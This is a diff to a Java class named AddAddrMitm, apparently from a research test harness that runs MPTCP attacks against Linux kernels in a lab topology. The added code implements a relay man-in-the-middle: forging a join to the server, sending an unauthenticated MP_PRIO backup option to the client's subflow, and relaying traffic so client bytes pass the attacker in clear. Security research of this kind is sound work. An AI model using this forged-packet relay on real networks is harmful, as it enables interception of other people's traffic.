@@ -86,10 +86,13 @@ public final class AddAddrMitm implements KernelAttack {
                         List.of(Forge.mptcp(dataAck(ctx.fresh().clientNextDsn()))), Bytes.empty()));
             } else {
                 ctx.note("client kernel answered the attacker's SYN/ACK with flags 0x"
-                        + Integer.toHexString(third.get().segment().flags()) + " " + third.get().segment().options());
+                        + Integer.toHexString(third.get().segment().flags()) + " " + KernelReply.of(third.get().segment()).options());
             }
         } else {
             ctx.note("client kernel: no third ACK within 2 s");
+        }
+        if (established) {
+            relay(ctx, c, syn, isn);
         }
         int appMark = ctx.client().eventCount();
         ctx.client().command("info");
@@ -101,6 +104,47 @@ public final class AddAddrMitm implements KernelAttack {
         ctx.note("client MIB counters changed: " + delta);
         ctx.note(established ? "client has a subflow to the attacker" : "join to the attacker not completed");
         return delta.getOrDefault("MPTcpExtAddAddr", 0L) >= 1;
+    }
+
+    static final byte[] SECOND = "second message from the client\n".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
+
+    /**
+     * The relay half of the attack (thesis Figure 2.5): the attacker joins the server itself,
+     * marks the client's original subflow as backup with a forged MP_PRIO (RFC 8684 gives MP_PRIO
+     * no authentication), and relays between the client's subflow to it and its own subflow to
+     * the server. The client's next bytes then cross the attacker in clear.
+     */
+    private static void relay(AttackContext ctx, CapturedConnection c, TcpSegment clientSyn, long attackerIsnC)
+            throws IOException {
+        Optional<ForgedJoin.Joined> s = ForgedJoin.toServer(ctx, c, ADDRESS_ID);
+        if (s.isEmpty()) {
+            ctx.note("relay: the attacker's own join to the server failed");
+            return;
+        }
+        Wiretap tap = ctx.tap();
+        Relay.Leg legC = new Relay.Leg(clientSyn.src(), clientSyn.srcPort(), clientSyn.seq(), Topology.CLIENT_MAC,
+                clientSyn.dstPort(), attackerIsnC);
+        Relay.Leg legS = new Relay.Leg(c.server(), c.serverPort(), s.get().serverIsn(), Topology.SERVER_MAC,
+                s.get().port(), s.get().isn());
+        try (Relay relay = new Relay(tap, legC, legS, tap.size())) {
+            CapturedConnection now = ctx.fresh();
+            tap.send(Topology.CLIENT_MAC, Forge.inWindow(now, false, TcpSegment.ACK,
+                    new MptcpOption.MpPrio(true, OptionalInt.empty()), Bytes.empty()));
+            ctx.note("attacker: sent MP_PRIO(backup) as the server on the client's original subflow");
+            int appMark = ctx.server().eventCount();
+            ctx.client().send(SECOND);
+            byte[] expected = EavesdropHandshake.concat(ctx.clientData(), SECOND);
+            ctx.server().awaitFrom(appMark, e -> ctx.server().received().length >= expected.length, 2_000);
+            try {
+                Thread.sleep(100);
+            } catch (InterruptedException e) {
+                Thread.currentThread().interrupt();
+            }
+            byte[] seen = relay.clientPayload();
+            ctx.note("relay: " + relay.relayed() + " segments relayed; client bytes that crossed the attacker: "
+                    + EavesdropHandshake.printable(seen));
+            ctx.note("server application read (whole stream): " + EavesdropHandshake.printable(ctx.server().received()));
+        }
     }
 
     /**
